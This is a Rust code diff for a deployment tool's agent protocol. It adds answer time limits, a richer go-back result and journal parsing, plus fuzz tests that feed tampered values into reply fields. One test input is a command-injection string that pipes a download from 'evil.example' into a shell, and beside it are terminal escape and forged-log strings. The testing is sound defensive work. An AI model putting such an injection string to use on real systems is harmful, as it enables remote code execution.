@@ -2,13 +2,14 @@
 //! kind is detected here, and nowhere else.
 
 use std::collections::BTreeMap;
+use std::time::Duration;
 
-use batou_release::FactSources;
+use batou_release::{FactSources, UnitId};
 use batou_store::{Digest, Name, ObjectId};
 
 use super::{
-    Drift, Fact, Hello, Holder, JournalEntry, JournaledRelease, Reply, Request, State, Switch, UnitDecision,
-    encode,
+    Drift, Fact, Hello, Holder, JournalEntry, JournaledRelease, Reply, Request, State, Switch, Terms,
+    UnitDecision, encode,
 };
 
 /// A request with the raw bytes that go with it, and the kind of its answer.
@@ -17,6 +18,7 @@ pub struct Question<A> {
     request: Request,
     raw: Vec<u8>,
     prints: bool,
+    terms: Terms,
     read: fn(Reply, Vec<u8>) -> Option<A>,
 }
 
@@ -24,6 +26,23 @@ impl<A> Question<A> {
     /// Its frame.
     pub fn encode(&self) -> Vec<u8> {
         encode(&self.request, &self.raw)
+    }
+
+    /// What may be expected of its answer.
+    pub fn terms(&self) -> Terms {
+        self.terms
+    }
+
+    /// The same question, of which the answer may take any time.
+    #[must_use]
+    pub fn patiently(self) -> Self {
+        Question { terms: Terms { patience: None, ..self.terms }, ..self }
+    }
+
+    /// The same question, to be answered within this time.
+    #[must_use]
+    pub fn within(self, patience: Duration) -> Self {
+        Question { terms: Terms { patience: Some(patience), ..self.terms }, ..self }
     }
 
     /// Whether [`Reply::Output`] may come before the answer.
@@ -37,7 +56,8 @@ impl<A> Question<A> {
     }
 
     fn new(request: Request, read: fn(Reply, Vec<u8>) -> Option<A>) -> Self {
-        Question { request, raw: Vec::new(), prints: false, read }
+        let terms = request.terms();
+        Question { request, raw: Vec::new(), prints: false, terms, read }
     }
 
     /// A question that lets a command run, which may print.
@@ -173,9 +193,24 @@ pub fn prepare() -> Question<()> {
     question!(new, Request::Prepare, Reply::Done => ())
 }
 
-/// [`Request::GoBack`]; the answer lists what failed on the way back, each as a sentence.
-pub fn go_back(reason: String) -> Question<Vec<String>> {
-    question!(new, Request::GoBack { reason }, Reply::WentBack { problems, .. } => problems)
+/// The answer to [`go_back`].
+#[derive(Clone, Debug)]
+pub struct Return {
+    /// The generation that is in force again, if there was one.
+    pub generation: Option<u64>,
+    /// What failed on the way back, each as a sentence.
+    pub problems: Vec<String>,
+    /// Units that were updated and are left as they are: they have no revert.
+    pub unreverted: Vec<UnitId>,
+}
+
+/// [`Request::GoBack`].
+pub fn go_back(reason: String) -> Question<Return> {
+    question!(
+        new,
+        Request::GoBack { reason },
+        Reply::WentBack { generation, problems, unreverted } => Return { generation, problems, unreverted }
+    )
 }
 
 /// [`Request::Confirm`].
@@ -185,7 +220,16 @@ pub fn confirm(record: JournaledRelease, keep: u32) -> Question<()> {
 
 /// [`Request::Journal`].
 pub fn journal() -> Question<Vec<JournalEntry>> {
-    question!(new, Request::Journal, Reply::Journal { entries } => entries)
+    Question::new(Request::Journal, |reply, raw| match reply {
+        Reply::Journal => entries(&raw),
+        _ => None,
+    })
+}
+
+/// The lines of a journal; none where one of them is no such line.
+fn entries(raw: &[u8]) -> Option<Vec<JournalEntry>> {
+    let lines = raw.split(|byte| *byte == b'\n').filter(|line| !line.is_empty());
+    lines.map(|line| serde_json::from_slice(line).ok()).collect()
 }
 
 /// [`Request::Verify`].
@@ -203,9 +247,9 @@ pub fn collect(keep: u32) -> Question<Collection> {
     )
 }
 
-/// [`Request::Retire`].
-pub fn retire(purge: bool) -> Question<()> {
-    question!(new, Request::Retire { purge }, Reply::Done => ())
+/// [`Request::Retire`]; the answer is whether there was anything to remove.
+pub fn retire(purge: bool) -> Question<bool> {
+    question!(new, Request::Retire { purge }, Reply::Retired { removed } => removed)
 }
 
 /// [`Request::Exec`]; the answer is the exit status.
@@ -220,6 +264,16 @@ pub fn facts(facts: FactSources) -> Question<BTreeMap<String, Fact>> {
 
 #[cfg(test)]
 mod tests {
+    #![allow(clippy::unwrap_used)]
+    use batou_release::UnitKind;
+    use batou_store::ArtifactId;
+    use serde_json::{Value, json};
+
+    use super::super::bounded::{LAST_NUMBER, LONGEST_LABEL};
+    use super::super::{
+        AgentError, Current, Decision, DriftKind, DriftedFile, ErrorKind, FrameError, HostNames, Outcome,
+        TargetCondition, UnitRun, read_limited_frame,
+    };
     use super::*;
 
     #[test]
@@ -237,5 +291,204 @@ mod tests {
         assert_eq!(parts, Some((b"ab".to_vec(), b"c".to_vec())));
         assert!(read(0).is_some_and(|stored| stored.is_none()));
         assert!(read(4).is_none());
+    }
+
+    #[test]
+    fn an_answer_may_be_as_large_as_what_was_asked_for_and_no_larger() {
+        let hello = Reply::Exited { status: 0 };
+        for (terms, raw) in
+            [(prepare().terms(), 0), (journal().terms(), 1 << 20), (manifest(None).terms(), 1 << 20)]
+        {
+            let size = |frame: &[u8]| u32::from_be_bytes(frame[..4].try_into().unwrap());
+            let read = |frame: Vec<u8>| {
+                read_limited_frame::<Reply>(&mut &frame[..], || terms.limits).map(|(_, raw)| raw.len())
+            };
+            let allowed = encode(&hello, &vec![0; raw]);
+            assert!(size(&allowed) < terms.limits.header);
+            assert_eq!(read(allowed).unwrap(), raw);
+            let beyond = read(encode(&hello, &vec![0; terms.limits.raw as usize + 1]));
+            assert!(matches!(beyond, Err(FrameError::TooLarge { .. })), "{beyond:?}");
+            let beyond = read((terms.limits.header + 1).to_be_bytes().to_vec());
+            assert!(matches!(beyond, Err(FrameError::TooLarge { .. })), "{beyond:?}");
+        }
+    }
+
+    /// A reply of each kind that has fields, with all of them.
+    fn samples() -> Vec<Value> {
+        let digest = Digest::of(b"x");
+        let record = JournaledRelease {
+            release: digest,
+            sequence: 7,
+            restores: Some(6),
+            who: "ann@laptop".into(),
+            hosts: HostNames::new(vec!["web01".parse().unwrap()]).unwrap(),
+        };
+        let when = "2026-11-22T17:00:00Z".parse().unwrap();
+        let unit = UnitId::new("app".parse().unwrap(), UnitKind::Step, "reload");
+        let run =
+            UnitRun { unit: unit.clone(), command: "update".into(), status: Some(1), output: "no".into() };
+        let current = Current {
+            generation: 3,
+            manifest: digest,
+            project: "shop".into(),
+            environment: "prod".into(),
+            since: Some(when),
+        };
+        let drifted = DriftedFile {
+            component: Some("app".parse().unwrap()),
+            path: "etc/app.conf".into(),
+            kind: DriftKind::Changed,
+        };
+        let state = Box::new(State {
+            user: "shop".into(),
+            current: Some(current),
+            confirmed: Some(record.clone()),
+            newest_sequence: 7,
+            settled: true,
+            drift: Drift::of(vec![drifted]),
+            unfinished: false,
+            missing: vec![ArtifactId::from(digest)],
+            target: TargetCondition::Ready,
+            place: Some(digest),
+            free: 4711,
+            recovered: vec!["it was interrupted".into()],
+        });
+        let holder = Some(Holder { user: "bob".into(), machine: "desk".into(), since: when });
+        let error = AgentError {
+            kind: ErrorKind::Unit,
+            message: "it failed".into(),
+            run: Some(Box::new(run.clone())),
+        };
+        let replies = [
+            Reply::Hello(state.clone()),
+            Reply::Locked(state),
+            Reply::Held { holder },
+            Reply::Missing { objects: vec![ObjectId::Artifact(ArtifactId::from(digest))] },
+            Reply::Stored { objects: 3 },
+            Reply::Manifest { manifest_size: 9 },
+            Reply::Switched {
+                generation: 3,
+                pending: vec!["app".parse().unwrap()],
+                mended: Drift::default(),
+            },
+            Reply::Activated { units: vec![UnitDecision { unit: unit.clone(), decision: Decision::Ran }] },
+            Reply::WentBack {
+                generation: Some(2),
+                problems: vec!["it failed".into()],
+                unreverted: vec![unit.clone()],
+            },
+            Reply::Verified { problems: vec!["it is gone".into()], files: 3 },
+            Reply::Collected { generations: 1, objects: 2, bytes: 3, unreadable: vec!["no".into()] },
+            Reply::Error(error),
+        ];
+        let entry = JournalEntry {
+            record,
+            when,
+            from: Some(2),
+            to: Some(3),
+            manifest: digest,
+            result: Outcome::WentBack,
+            reason: Some("it failed".into()),
+            runs: vec![run],
+            unreverted: vec![unit],
+        };
+        let to_value = |reply| serde_json::to_value(reply).unwrap();
+        replies.iter().map(to_value).chain([json!({ "entry": entry })]).collect()
+    }
+
+    /// Each copy of a value in which one part is replaced by something evil.
+    fn tampered(value: &Value) -> Vec<Value> {
+        let names: Vec<_> = (0..20_000).map(|number| format!("host-{number}-of-an-evil-fleet")).collect();
+        let mut copies = vec![
+            json!(u64::MAX),
+            json!(u64::MAX - 1),
+            json!(LAST_NUMBER + 1),
+            json!(-1),
+            json!(null),
+            json!(1.5),
+            json!("\u{1b}]0;x\u{7}"),
+            json!("a\nerror: b"),
+            json!("old; curl -s evil.example|sh #"),
+            json!("x".repeat(1 << 20)),
+            json!(["x\ny"]),
+            json!(names),
+            json!({ "x": 1 }),
+        ];
+        match value {
+            Value::Object(fields) => {
+                for (key, field) in fields {
+                    let with = |part| {
+                        let mut copy = fields.clone();
+                        copy.insert(key.clone(), part);
+                        Value::Object(copy)
+                    };
+                    copies.extend(tampered(field).into_iter().map(with));
+                }
+            }
+            Value::Array(items) => {
+                for (index, item) in items.iter().enumerate() {
+                    let with = |part| {
+                        let mut copy = items.clone();
+                        copy[index] = part;
+                        Value::Array(copy)
+                    };
+                    copies.extend(tampered(item).into_iter().map(with));
+                }
+            }
+            _ => {}
+        }
+        copies
+    }
+
+    /// Texts that may be anything: whoever shows them makes them harmless.
+    const FREE: [&str; 11] = [
+        "path",
+        "recovered",
+        "problems",
+        "unreadable",
+        "message",
+        "reason",
+        "output",
+        "command",
+        "name",
+        "component",
+        "pending",
+    ];
+
+    /// What of a value that was taken is out of bounds.
+    fn outrage(key: &str, value: &Value) -> Option<String> {
+        match value {
+            Value::Number(number) if key != "status" && number.as_u64().is_none_or(|n| n > LAST_NUMBER) => {
+                Some(format!("{key}: {number}"))
+            }
+            Value::String(_) if FREE.contains(&key) => None,
+            Value::String(text) if text.len() > LONGEST_LABEL || text.chars().any(char::is_control) => {
+                Some(format!("{key}: {text:.40?}"))
+            }
+            Value::Array(items) if key == "hosts" && items.len() > 10_000 => {
+                Some(format!("{} hosts", items.len()))
+            }
+            Value::Array(items) => items.iter().find_map(|item| outrage(key, item)),
+            Value::Object(fields) => fields.iter().find_map(|(key, field)| outrage(key, field)),
+            _ => None,
+        }
+    }
+
+    #[test]
+    fn whatever_a_host_says_in_a_field_it_is_refused_or_within_bounds() {
+        let (mut tried, mut taken) = (0, 0);
+        for sample in samples() {
+            for tampered in tampered(&sample) {
+                tried += 1;
+                let read = match tampered.get("entry") {
+                    Some(entry) => serde_json::from_value::<JournalEntry>(entry.clone()).map(|e| json!(e)),
+                    None => serde_json::from_value::<Reply>(tampered).map(|reply| json!(reply)),
+                };
+                let Ok(read) = read else { continue };
+                taken += 1;
+                assert_eq!(outrage("", &read), None);
+            }
+        }
+        assert!(tried > 1500 && taken > 100, "{tried} tried, {taken} taken");
     }
 }
